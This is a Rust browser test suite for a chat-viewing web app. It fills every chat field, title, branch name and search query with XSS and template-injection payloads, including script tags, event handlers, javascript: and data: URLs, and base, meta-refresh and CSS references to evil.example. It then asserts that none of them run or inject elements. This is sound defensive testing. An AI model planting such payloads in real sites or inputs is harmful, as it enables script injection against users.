//! Content that tries to be more than text.

use context_runtime::store::{ChatPatch, TitleChange};
use context_runtime::{
    ContextEngine, Data, Json, Media, MediaSource, MessageId, Metadata, OpaqueBlock, Part,
    Reasoning, Role, ToolCall, ToolInput, ToolResult, user,
};
use serde_json::{Value, json};

use crate::demo::message;
use crate::driver::{Browser, Page, View};
use crate::site::{Site, chat};

/// A text that does something wherever it is taken for more than text: markup, an attribute, an
/// address, a style, a template. The field's name makes each one unique.
pub(crate) fn hostile(field: &str) -> String {
    format!(
        "{field}\"'><script>pwned=1;alert(1)</script><img src=x onerror=pwned=1;alert(1)><svg/onload=pwned=1>\
         <style>@import 'http://evil.example/s.css'</style><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>\
         <base href=http://evil.example><meta http-equiv=refresh content=0;url=http://evil.example>${{pwned=1}}{{{{pwned=1}}}}"
    )
}

/// Markdown whose links, images, code and tables are hostile.
const MARKDOWN: &str = "[link](javascript:pwned=1) <javascript:pwned=1> ![image](http://evil.example/a.png)\n\n\
[ref]: javascript:pwned=1\n[ref] [data](data:text/html,<script>pwned=1</script>) [style](http://evil.example\" onmouseover=\"pwned=1)\n\n\
```html\"><script>pwned=1</script>\n</code></pre><script>pwned=1</script>\n```\n\n\
```js\n</span><img src=x onerror=pwned=1>\n```\n\n| <b onclick=pwned=1>a</b> | b |\n|---|---|\n| </td><script>pwned=1</script> | c |\n\n\
<details open ontoggle=pwned=1><summary>s</summary></details> <input autofocus onfocus=pwned=1> <form action=http://evil.example><button>send</button></form>\n";

fn media(field: &str, source: MediaSource, kind: &str) -> Media {
    Media {
        source,
        media_type: Some(kind.to_owned()),
        name: Some(hostile(field)),
        metadata: bad_metadata(),
    }
}

fn bad_metadata() -> Metadata {
    Metadata::default().with(hostile("meta-key"), hostile("meta-value").as_str())
}

fn json(field: &str) -> Json {
    json!({hostile(&format!("{field}-key")): hostile(field)}).into()
}

/// Writes a chat in which every field is hostile. Returns its name.
pub(crate) async fn write(site: &Site) -> String {
    let name = hostile("chat")[..120].to_owned();
    let call = |id: &str, name: &str, input: ToolInput| ToolCall {
        id: hostile(id),
        name: hostile(name),
        input,
        metadata: bad_metadata(),
    };
    let calls = [
        call("call-id", "tool", ToolInput::Json(json("argument"))),
        call("call-edit", "tool-edit", ToolInput::Json(json!({
            "file_path": hostile("file"), "old_string": hostile("old"), "new_string": hostile("new"), hostile("rest-key"): hostile("rest"),
        }).into())),
        call("call-patch", "tool-patch", ToolInput::Json(json!({"patch": format!("+{}\n-{}", hostile("added"), hostile("removed"))}).into())),
        call("call-file", "tool-file", ToolInput::Json(json!({"path": hostile("a.html"), "content": hostile("content")}).into())),
        call("call-shell", "tool-shell", ToolInput::Json(json!({"command": hostile("command")}).into())),
        call("call-invalid", "tool-invalid", ToolInput::Invalid(hostile("invalid"))),
    ];
    let result = |call: &ToolCall, output: Vec<Part>, is_error| {
        Part::ToolResult(ToolResult {
            call_id: call.id.clone(),
            name: Some(hostile("result-name")),
            output,
            is_error,
            metadata: bad_metadata(),
        })
    };
    let pictures = vec![
        Part::Image(media(
            "media-url",
            MediaSource::Url("http://evil.example/a.png".into()),
            "image/png",
        )),
        Part::Image(media(
            "media-script",
            MediaSource::Url("javascript:pwned=1".into()),
            "image/png",
        )),
        Part::Image(media(
            "media-html",
            MediaSource::Url("data:text/html,<script>pwned=1</script>".into()),
            "text/html",
        )),
        Part::Image(media(
            "media-svg",
            MediaSource::Base64("PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+".into()),
            "image/svg+xml",
        )),
        Part::Image(media("media-type", MediaSource::Base64("AAAA".into()), &hostile("type"))),
        Part::Image(media(
            "media-bytes",
            MediaSource::Base64("\" onload=\"pwned=1".into()),
            "image/png",
        )),
        Part::Document(media(
            "document",
            MediaSource::Reference(hostile("reference")),
            "application/pdf",
        )),
        Part::Audio(media("audio", MediaSource::Url(hostile("audio-url")), "audio/wav")),
    ];
    let results = [
        result(&calls[0], vec![Part::text(hostile("result"))], false),
        result(
            &calls[1],
            vec![Part::text(json!({hostile("result-key"): hostile("result-json")}).to_string())],
            true,
        ),
        result(&calls[2], pictures.clone(), false),
        result(&calls[3], vec![Part::text(MARKDOWN)], false),
        result(
            &call("of-nothing", "tool", ToolInput::Json(json("x"))),
            vec![Part::text("lonely")],
            false,
        ),
    ];
    let thought = Part::Reasoning(Reasoning {
        text: format!("{}\n\n{MARKDOWN}", hostile("thought")).into(),
        signature: Some(hostile("signature").into()),
        provider: Some(hostile("thinker")),
        ..Reasoning::default()
    });
    let others = [
        Part::Data(Data { name: hostile("data"), value: json("data-value") }),
        Part::Opaque(OpaqueBlock { provider: hostile("opaque"), value: json("opaque-value") }),
        Part::Unknown(json("unknown")),
    ];
    let mut engine = site
        .say(
            &name,
            [
                message(Role::System, [Part::text(hostile("system"))]),
                user(hostile("user")).with_id("first"),
                message(Role::User, [Part::text(MARKDOWN)].into_iter().chain(pictures)),
                message(
                    Role::Assistant,
                    [thought, Part::text(hostile("assistant"))]
                        .into_iter()
                        .chain(others)
                        .chain(calls.clone().map(Part::ToolCall)),
                ),
                message(Role::Tool, results),
                user("The last word").with_id(hostile("message")[..100].to_owned()),
            ],
        )
        .await;
    let title = TitleChange::Set(hostile("title")[..200].to_owned());
    let set = bad_metadata();
    engine.update_chat(&ChatPatch { title, set, ..ChatPatch::default() }).await.unwrap();
    engine.checkpoint(hostile("checkpoint")[..120].to_owned()).await.unwrap();
    branch(&mut engine).await;
    name
}

async fn branch(engine: &mut ContextEngine) {
    let moved = engine.rewind(&MessageId::from("first")).await.unwrap();
    engine.rename_branch(&moved.branch, hostile("branch")[..120].to_owned()).await.unwrap();
    engine.set([user(hostile("other"))]).save().await.unwrap();
    engine.switch_branch("main").await.unwrap();
}

/// Fails if anything of the content was more than text.
async fn is_tame(page: &Page) {
    let pwned = page.eval("typeof pwned").await;
    assert_eq!(pwned, "undefined", "a script of the content ran");
    let ours = page
        .eval("[...document.querySelectorAll('script, base, iframe, object, embed, meta[http-equiv], style, form, a[href], [onclick], [onload], [onerror]')]
            .filter((it) => !(it.matches('script[src]') && new URL(it.src).origin === location.origin)
                && !(it.matches('form.find, form[method=dialog], form[data-do]') && new URL(it.action).origin === location.origin)
                && !(it.matches('a') && /^(https?|mailto):$/.test(it.protocol)))
            .map((it) => it.outerHTML)")
        .await;
    assert_eq!(ours, json!([]), "elements that nobody of ours wrote");
    page.is_sound().await;
}

/// Opens whatever is folded.
async fn unfold(page: &Page) {
    page.eval("for (const it of document.querySelectorAll('details')) it.open = true").await;
}

/// Fails unless the hostile text of each field is seen, as it was written.
async fn shows(page: &Page, selector: &str, fields: &[&str]) {
    for field in fields {
        let (text, selector) = (Value::from(hostile(field)), Value::from(selector));
        let script = format!(
            "(() => {{ const all = document.querySelector({selector}).textContent.replace(/\\s+/g, '');
            const text = {text}.replace(/\\s+/g, '');
            // JSON is shown as JSON.
            return all.includes(text) || all.includes(JSON.stringify(text).slice(1, -1)); }})()"
        );
        assert_eq!(page.eval(&script).await, true, "{field} is not shown as text");
    }
}

pub(crate) async fn content_of_every_field_is_text(browser: &Browser) {
    let site = Site::new().await;
    let name = write(&site).await;
    let page = site.page(browser, View::WIDE, "/").await;
    page.sees("main", "title\"'><script>pwned=1").await;
    is_tame(&page).await;
    page.go(&chat(&name)).await;
    page.wait("document.querySelectorAll('.row').length === 5").await;
    unfold(&page).await;
    let fields = [
        "system",
        "user",
        "assistant",
        "thought",
        "data",
        "data-value",
        "data-value-key",
        "opaque",
        "opaque-value",
        "unknown",
        "unknown-key",
        "tool",
        "argument",
        "argument-key",
        "tool-edit",
        "file",
        "old",
        "new",
        "rest",
        "rest-key",
        "added",
        "removed",
        "content",
        "command",
        "invalid",
        "result",
        "result-json",
        "result-key",
        "media-url",
        "media-svg",
        "media-type",
        "type",
        "document",
        "audio",
    ];
    page.sees("main", "The last word").await;
    shows(&page, "main", &fields[..]).await;
    is_tame(&page).await;
    // Each view that the chat has, from its tabs.
    let tabs = page.eval("[...document.querySelectorAll('.tabs a')].map((it) => it.href)").await;
    let tabs: Vec<String> = serde_json::from_value(tabs).unwrap();
    assert!(tabs.len() >= 2, "{tabs:?}");
    for tab in &tabs {
        page.go(tab).await;
        unfold(&page).await;
        is_tame(&page).await;
        page.press(&["j", "j", "k"]).await;
        is_tame(&page).await;
    }
    page.go("/search?q=pwned").await;
    page.wait("document.querySelectorAll('.hits li').length > 2").await;
    is_tame(&page).await;
    page.go(&format!("/search?q={}", crate::site::encode(&hostile("words")))).await;
    is_tame(&page).await;
}

pub(crate) async fn names_in_dialogs_and_addresses_are_text(browser: &Browser) {
    let site = Site::new().await;
    let name = write(&site).await;
    let page = site.page(browser, View::WIDE, &format!("{}?at=first", chat(&name))).await;
    page.wait("document.querySelector('.row.current')").await;
    for action in ["Fork to a new chat…", "Edit onto a branch…", "Redact everywhere…"] {
        page.press(&["."]).await;
        page.wait("document.querySelector('[role=menu]')").await;
        let button = Value::from(action);
        page.eval(&format!("[...document.querySelectorAll('[role=menuitem]')].find((it) => it.textContent === {button}).click()")).await;
        page.wait("document.querySelector('dialog[open]')").await;
        is_tame(&page).await;
        page.press(&["Escape"]).await;
        page.wait("!document.querySelector('dialog')").await;
    }
    page.go(&format!("{}/branches", chat(&name))).await;
    page.sees("main", "branch\"'><script>").await;
    page.sees("main", "checkpoint\"'><script>").await;
    page.click("[data-act=delete_branch]").await;
    page.sees("dialog", "branch\"'><script>").await;
    is_tame(&page).await;
    page.click("dialog button.danger").await;
    page.sees("#toast", "Deleted branch\"'><script>").await;
    is_tame(&page).await;
}
